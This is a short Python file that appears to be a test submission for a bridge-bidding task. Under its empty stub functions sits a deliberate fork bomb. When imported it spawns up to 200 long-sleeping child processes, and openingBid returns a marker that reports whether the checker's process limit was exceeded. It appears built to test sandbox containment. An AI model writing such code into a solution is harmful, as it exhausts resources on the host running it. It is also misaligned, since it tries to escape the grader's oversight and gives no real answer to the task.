"""Attack: a fork bomb whose children wait until they are killed; answers with a marker
when more processes started than any bound the checker sets allows."""
import os
import time

started = 0
for _ in range(200):
    try:
        if os.fork() == 0:
            time.sleep(3600)
            os._exit(0)
    except OSError:
        break
    started += 1
ANSWER = f"escaped {started} @MARKER@" if started >= 200 else f"started {started}"


def highCardPoints(hand):
    pass


def distributionPoints(hand):
    pass


def openingBid(hand):
    return ANSWER
